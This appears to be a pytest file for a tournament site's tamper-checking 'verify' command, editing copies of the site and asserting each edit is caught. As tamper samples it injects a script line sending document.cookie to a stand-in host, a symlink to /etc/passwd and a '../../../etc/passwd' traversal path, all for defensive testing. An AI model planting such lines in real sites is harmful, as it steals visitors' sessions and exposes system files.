"""``referee verify SITE`` checks what people read: a page that lies fails, naming the file.

The finished fake tournament of ``conftest.py`` is published once; each test copies the site
and edits it as someone between the organiser and a reader could: the score on the
leaderboard page, a bot page's places, a match page, a replay's cards, the crosstable, the
collusion page, the "published … by referee" line, a script or a style, a file added or
removed, a listed SHA-256 edited to match an edited file. Every such copy fails a
visitor's ``referee verify`` (exit 1) naming the file; the honest copy verifies (exit 0)
and says what it compared and what it could not verify.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from referee import __version__
from referee.cli import main
from referee.publish import sitefiles
from referee.publish.site import publish_site
from referee.publish.source import load_results
from referee.stderrlog import STDERR_SUFFIX
from referee.tournament.file import Tournament
from referee.verify import verify_site
from tests.publish.conftest import play_fake, write_fake_tournament

SITE_JSON = "verification/site.json"


@pytest.fixture(scope="module")
def published(fake_tournament: Tournament, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("pages") / "site"
    publish_site(load_results(fake_tournament), out)
    return out


@pytest.fixture
def site(published: Path, tmp_path: Path) -> Path:
    """A copy of the published site, to edit."""
    copy = tmp_path / "site"
    shutil.copytree(published, copy, symlinks=True)
    return copy


def _verify(folder: Path, *options: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["verify", str(folder), *options])
    assert "Traceback" not in result.output
    return result.exit_code, result.output


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, old
    path.write_text(text.replace(old, new, 1))


def _fails_naming(site: Path, name: str) -> str:
    """Verify ``site``: it must fail, its first problem naming ``name``; the output."""
    code, output = _verify(site)
    assert code == 1, output
    fails = [line for line in output.splitlines() if line.startswith("FAIL ")]
    assert fails and fails[0].startswith(f"FAIL {name}: "), output
    return output


def _listing(site: Path) -> dict:  # type: ignore[type-arg]
    return json.loads((site / SITE_JSON).read_text())


def _relist(site: Path, name: str) -> None:
    """Edit the list's SHA-256 of ``name`` to that of the file as it is now."""
    listing = _listing(site)
    [entry] = [f for f in listing["files"] if f["path"] == name]
    entry["sha256"] = hashlib.sha256((site / name).read_bytes()).hexdigest()
    (site / SITE_JSON).write_text(json.dumps(listing))


def _first_score(index: str) -> str:
    found = re.search(r'<td class="num strong" data-v="[^"]*">([0-9.]+)</td>', index)
    assert found is not None
    return found.group(0)


def test_an_honest_site_has_every_file_listed_and_verifies_them(published: Path) -> None:
    listing = _listing(published)
    assert listing["format"] == 1 and listing["referee"] == __version__
    paths = {f["path"] for f in listing["files"]}
    on_disk = {p.relative_to(published).as_posix() for p in published.rglob("*") if p.is_file()}
    assert paths == on_disk - {SITE_JSON}
    kinds = {f["path"]: f["kind"] for f in listing["files"]}
    assert kinds["index.html"] == "page" and kinds["static/replay.js"] == "static"
    assert kinds["publish-cache.json"] == "cache" and kinds["leaderboard.md"] == "leaderboard"
    assert {kinds[p] for p in paths if p.endswith(".stderr.js")} == {"stderr"}
    for entry in listing["files"]:
        assert (
            entry["sha256"] == hashlib.sha256((published / entry["path"]).read_bytes()).hexdigest()
        )
    found = verify_site(published)
    assert found.ok, found.problems
    assert found.pages == sum(
        k not in ("log", "evidence", "cache", "marker") for k in kinds.values()
    )
    code, output = _verify(published)
    assert code == 0, output
    assert (
        f"its {found.pages} pages, replays, leaderboards, scripts and styles are what the verified data renders"
        in output
    )
    assert (
        "not verified: when it was published, and when and how long 24 matches were played"
        in output
    )
    assert "the bots' stderr in 24 matches (matches/*.stderr.js, checked to be data only)" in output
    assert "the reply times of 4 bots" in output


def test_the_score_on_the_leaderboard_page_fails(site: Path) -> None:
    index = site / "index.html"
    cell = _first_score(index.read_text())
    score = re.search(r">([0-9.]+)<", cell).group(1)  # type: ignore[union-attr]
    _edit(index, cell, cell.replace(f">{score}<", f">{float(score) + 2:.2f}<"))
    output = _fails_naming(site, "index.html")
    assert "not what the verified data renders (first at line" in output
    assert "where it renders '…" in output and f"{score}</td>" in output


@pytest.mark.parametrize(
    ("name", "pattern", "new"),
    [
        ("leaderboard.md", r"\| 2 \| ", "| 1 | "),  # two first places
        ("bots/polite.html", r'(<th>1st</th>.*?<td class="num">)\d+', r"\g<1>99"),
        ("index.html", r'(<td class="c\d+" title="[^"]*">)\d+%', r"\g<1>100%"),  # crosstable
        ("collusion.html", r"<td", "<td hidden"),
        ("matches.html", r"lowest", "polite"),
        ("index.html", r"by referee ", "by referee 9"),  # the "published … by referee" line
        ("index.html", r"published (\d{4})", r"published 1\g<1>"),
        ("leaderboard.json", r'"published": "', '"published": "1'),
        ("static/site.js", r"^", "fetch('https://example.com/?' + document.cookie);\n"),
        ("static/style.css", r"$", "body { display: none }\n"),
        ("static/replay.js", r"^", "window.refereeLog = [];\n"),
    ],
    ids=[
        "markdown",
        "bot places",
        "crosstable",
        "collusion",
        "match list",
        "by referee",
        "published at",
        "json settings",
        "script",
        "style",
        "replay script",
    ],
)
def test_an_edited_page_or_asset_fails_naming_it(
    site: Path, name: str, pattern: str, new: str
) -> None:
    path = site / name
    text, count = re.subn(pattern, new, path.read_text(), count=1, flags=re.DOTALL)
    assert count == 1, pattern
    path.write_text(text)
    output = _fails_naming(site, name)
    if name.startswith("static/"):
        assert f"FAIL {name}: not the file this referee ships" in output


def test_a_match_page_and_a_replays_cards_fail(site: Path, published: Path) -> None:
    listing = _listing(site)
    pages = sorted(
        f["path"]
        for f in listing["files"]
        if f["path"].startswith("matches/") and f["path"].endswith(".html")
    )
    page = site / pages[0]
    _edit(page, '<span class="place p1">1</span>', '<span class="place p1">3</span>')
    _fails_naming(site, pages[0])
    shutil.copy(published / pages[0], page)
    replay = pages[1].removesuffix(".html") + ".js"
    text = (site / replay).read_text()
    hand = re.search(r'"hands":\[\["([0-9JQKA]+[CSHD])"', text)
    assert hand is not None
    card = hand.group(1)
    other = "AC" if card != "AC" else "KC"
    _edit(site / replay, f'"hands":[["{card}"', f'"hands":[["{other}"')
    code, output = _verify(site)
    assert code == 1 and f"FAIL {replay}: not what the verified data renders" in output


def test_a_listed_sha256_edited_to_match_the_edited_file_still_fails(site: Path) -> None:
    """The list is no evidence: the page is rendered again, not trusted."""
    index = site / "index.html"
    cell = _first_score(index.read_text())
    _edit(index, cell, cell.replace('">', '">3', 1))
    _relist(site, "index.html")
    _fails_naming(site, "index.html")


def test_a_file_added_fails_and_the_host_files_are_accepted_and_named(site: Path) -> None:
    (site / ".nojekyll").write_bytes(b"")
    (site / "CNAME").write_text("tournament.example.org\n")
    (site / "robots.txt").write_text("User-agent: *\nDisallow:\n")
    code, output = _verify(site)
    assert code == 0, output
    assert "added by the host, not checked: .nojekyll, CNAME, robots.txt" in output
    (site / "bots" / "winner.html").write_text("<p>polite won</p>\n")
    _fails_naming(site, "bots/winner.html")
    assert (
        "not a file referee publish wrote (verification/site.json does not list it)"
        in (_verify(site)[1])
    )


def test_a_file_added_and_listed_fails(site: Path) -> None:
    shutil.copy(site / "bots" / "polite.html", site / "bots" / "polite-2.html")
    listing = _listing(site)
    listing["files"].append(
        dict(
            next(f for f in listing["files"] if f["path"] == "bots/polite.html"),
            path="bots/polite-2.html",
        )
    )
    (site / SITE_JSON).write_text(json.dumps(listing))
    output = _fails_naming(site, "bots/polite-2.html")
    assert "listed as a page, but the verified data renders no such file" in output


def test_a_removed_file_fails_listed_or_not(site: Path) -> None:
    (site / "collusion.html").unlink()
    output = _fails_naming(site, "collusion.html")
    assert "listed in verification/site.json, but missing" in output
    listing = _listing(site)
    listing["files"] = [f for f in listing["files"] if f["path"] != "collusion.html"]
    (site / SITE_JSON).write_text(json.dumps(listing))
    output = _fails_naming(site, "collusion.html")
    assert "missing (the verified data renders it)" in output


def test_a_link_added_to_the_site_fails(site: Path) -> None:
    (site / "bots" / "evil.html").symlink_to("/etc/passwd")
    _fails_naming(site, "bots/evil.html")


def test_the_reuse_cache_is_listed_and_checked_by_its_sha256(site: Path) -> None:
    cache = site / "publish-cache.json"
    _edit(cache, '"format": 1', '"format": 1 ')
    output = _fails_naming(site, "publish-cache.json")
    assert "its SHA-256 is not the one verification/site.json lists" in output


def test_a_stderr_script_must_stay_data(site: Path, published: Path) -> None:
    listing = _listing(site)
    name = next(f["path"] for f in listing["files"] if f["kind"] == "stderr")
    script = site / name
    script.write_text(script.read_text() + "fetch('https://example.com/');\n")
    output = _fails_naming(site, name)
    assert "not a stderr script referee publish writes" in output
    # What the bots wrote is theirs, and named as not verified: text edited into a script
    # that stays data, listed again, is what verify cannot tell.
    text = (published / name).read_text()
    data = json.loads(text.removeprefix("window.refereeStderr = ").removesuffix(";\n"))
    data["seats"][0]["pieces"] = [[1, "I never play fair\n"]]
    script.write_text(
        "window.refereeStderr = "
        + json.dumps(data, ensure_ascii=False, separators=(",", ":"))
        .replace("<", "\\u003c")
        .replace(">", "\\u003e")
        .replace("&", "\\u0026")
        + ";\n"
    )
    output = _fails_naming(site, name)
    assert f"{SITE_JSON} lists another SHA-256 for it" in output
    _relist(site, name)
    code, output = _verify(site)
    assert code == 0 and "not verified:" in output and "stderr in 24 matches" in output


def test_a_site_rendered_by_another_referee_version_has_its_data_verified_and_says_so(
    fake_tournament: Tournament, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patch:
        patch.setattr(sitefiles, "__version__", "0.0.9")
        publish_site(load_results(fake_tournament), tmp_path / "old")
    old = tmp_path / "old"
    assert _listing(old)["referee"] == "0.0.9"
    code, output = _verify(old)
    assert code == 0, output
    assert (
        f"its pages are not compared: rendered by referee 0.0.9 (this is {__version__}); "
        "verify with that version to compare them"
    ) in output
    assert "the leaderboard is the one its logs give" in output
    assert output.splitlines()[-2].startswith("PAGES NOT COMPARED: rendered by referee 0.0.9")
    code, output = _verify(old, "--require-pages")
    assert code == 1 and "PAGES NOT COMPARED: rendered by referee 0.0.9" in output
    # Its files are still listed and hashed; a page and its entry edited together is what a
    # site of another version leaves unchecked, and verify says so.
    _edit(old / "index.html", "<h1>", "<h1>Under new rules: ")
    _fails_naming(old, "index.html")
    _relist(old, "index.html")
    code, output = _verify(old)
    assert code == 0 and "its pages are not compared: rendered by referee 0.0.9" in output
    # Its data is verified as before: a log edited still fails.
    entry = json.loads((old / "verification" / "manifest.json").read_text())["matches"][0]
    log = old / "matches" / entry["log"]
    log.write_text(log.read_text().replace('"score":', '"score": ', 1))
    code, output = _verify(old)
    assert code == 1 and f"FAIL {entry['key']}: " in output


def test_a_site_without_its_file_list_says_its_pages_are_not_compared(site: Path) -> None:
    (site / SITE_JSON).unlink()
    code, output = _verify(site)
    assert code == 0, output
    assert (
        "its pages are not compared: the site lists no files (verification/site.json is missing"
        in output
    )
    # Removing the list is how an edited page would pass: a script that must know the pages
    # were compared asks for it, and the edit then fails.
    _edit(site / "index.html", "<h1>", "<h1>Edited: ")
    code, output = _verify(site, "--require-pages")
    assert code == 1 and "PAGES NOT COMPARED: the site lists no files" in output
    code, output = _verify(site)
    assert code == 0 and "PAGES NOT COMPARED" in output


def test_a_site_that_keeps_the_stderr_private_verifies_and_still_fails_an_edit(
    tmp_path: Path,
) -> None:
    """``[publish] stderr = "private"``: the site carries no stderr, its pages say so, and
    they are rendered again and compared like any other."""
    spec = play_fake(
        write_fake_tournament(tmp_path / "t", deals=1, extra='[publish]\nstderr = "private"\n')
    )
    publish_site(load_results(spec), tmp_path / "site")
    site = tmp_path / "site"
    assert not list(site.glob(f"matches/*{STDERR_SUFFIX}.js"))
    code, output = _verify(site, "--require-pages")
    assert code == 0, output
    assert "are what the verified data renders" in output and "stderr in" not in output
    [page] = sorted(site.glob("bots/*.html"))[:1]
    _edit(page, "<h1>", "<h1>Edited: ")
    _fails_naming(site, f"bots/{page.name}")


def test_a_site_without_the_bots_stderr_verifies_and_names_no_stderr(tmp_path: Path) -> None:
    """A competition that keeps the bots' stderr private publishes none: nothing to list."""
    spec = play_fake(write_fake_tournament(tmp_path / "t", deals=1))
    for path in spec.results_dir.glob(f"logs/*{STDERR_SUFFIX}"):
        path.unlink()
    publish_site(load_results(spec), tmp_path / "site")
    listing = _listing(tmp_path / "site")
    assert not any(f["kind"] == "stderr" for f in listing["files"])
    assert {m["stderr"] for m in listing["matches"]} == {"none"}
    code, output = _verify(tmp_path / "site")
    assert code == 0, output
    assert "stderr in" not in output and "not verified: when it was published" in output


def test_the_page_inputs_no_log_holds_are_rendered_not_trusted(site: Path) -> None:
    """A reply time edited in the list changes the bot page it is rendered into: the page
    on the site, not edited, no longer matches."""
    listing = _listing(site)
    times = next(r for r in listing["reply_times"] if r["name"] == "polite")
    times["counts"] = [[9999, 1], *times["counts"]]
    (site / SITE_JSON).write_text(json.dumps(listing))
    code, output = _verify(site)
    assert code == 1 and "FAIL bots/polite.html: not what the verified data renders" in output


def _set_listing(site: Path, change: object) -> None:
    listing = _listing(site)
    change(listing)  # type: ignore[operator]
    (site / SITE_JSON).write_text(json.dumps(listing))


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda d: d.update(published=1e300), "published: got 1e+300"),
        (lambda d: d["matches"][0].update(finished=float("inf")), "matches[0].finished"),
        (lambda d: d["reply_times"][0]["counts"].append([1]), "reply_times[0].counts"),
        (lambda d: d.update(format=2), "written by another version of the referee (format 2"),
        (lambda d: d.update(extra=1), "extra: a key referee publish never writes"),
    ],
    ids=["time past the year 3000", "infinite time", "half a count", "format", "extra key"],
)
def test_a_file_list_that_publish_never_writes_is_refused_in_one_line(
    site: Path, change: object, expected: str
) -> None:
    _set_listing(site, change)
    code, output = _verify(site)
    assert code == 2 and output.count("\n") == 1, output
    assert "site.json" in output and expected in output


def test_a_listed_path_outside_the_site_is_never_read(site: Path) -> None:
    _set_listing(
        site,
        lambda d: d["files"].append(
            {"path": "../../../etc/passwd", "sha256": "0" * 64, "kind": "evidence", "made_from": []}
        ),
    )
    output = _fails_naming(site, "../../../etc/passwd")
    assert "listed in verification/site.json, but missing" in output
    assert "SHA-256" not in output


def test_a_match_left_out_of_the_page_inputs_fails_its_page(site: Path) -> None:
    listing = _listing(site)
    gone = listing["matches"].pop(0)
    (site / SITE_JSON).write_text(json.dumps(listing))
    code, output = _verify(site)
    assert code == 1 and "FAIL matches/" in output and "Traceback" not in output
    assert gone["key"]


def test_a_bot_whose_kit_replaced_decisions_verifies_and_says_what_is_not_verified(
    tmp_path: Path,
) -> None:
    spec = play_fake(write_fake_tournament(tmp_path / "t", deals=1))
    db = sqlite3.connect(spec.results_dir / "results.sqlite")
    with db:  # as a bot kit's safety net records it (no result, no log, no chain entry)
        db.execute("UPDATE results SET kit_replaced = 2 WHERE name = 'lowest'")
    db.close()
    publish_site(load_results(spec), tmp_path / "site")
    assert "Its kit replaced" in (tmp_path / "site" / "bots" / "lowest.html").read_text()
    code, output = _verify(tmp_path / "site")
    assert code == 0, output
    assert "the kit's replaced decisions of 1 bots" in output


def test_a_match_pages_rounds_are_its_logs_whatever_the_page_inputs_say(site: Path) -> None:
    listing = _listing(site)
    entry = listing["matches"][0]
    manifest = json.loads((site / "verification" / "manifest.json").read_text())
    [log] = [m["log"] for m in manifest["matches"] if m["key"] == entry["key"]]
    page = f"matches/{log.removesuffix('.jsonl')}.html"
    _edit(site / page, f" · {entry['rounds']} rounds", " · 99 rounds")
    entry["rounds"] = 99
    (site / SITE_JSON).write_text(json.dumps(listing))
    _relist(site, page)
    output = _fails_naming(site, page)
    published, rendered = output.split("where it renders", 1)
    assert "99 rounds" in published and "99 rounds" not in rendered.splitlines()[0]


def test_a_page_listed_as_another_kind_of_file_is_still_rendered_again(site: Path) -> None:
    """What a file is, verify decides by its path: a page listed as the reuse cache (which
    is only hashed) is rendered again like every page."""
    index = site / "index.html"
    cell = _first_score(index.read_text())
    _edit(index, cell, cell.replace('">', '">3', 1))
    _set_listing(
        site,
        lambda d: next(f for f in d["files"] if f["path"] == "index.html").update(
            kind="cache", sha256=hashlib.sha256(index.read_bytes()).hexdigest()
        ),
    )
    output = _fails_naming(site, "index.html")
    assert "not what the verified data renders" in output


def test_a_file_added_does_not_hide_a_page_edited(site: Path) -> None:
    (site / "static" / "extra.css").write_text("body { color: red }\n")
    index = site / "index.html"
    _edit(index, _first_score(index.read_text()), "<td>1st</td>")
    code, output = _verify(site)
    assert code == 1
    assert "FAIL static/extra.css: not a file referee publish wrote" in output
    assert "FAIL index.html: not what the verified data renders" in output
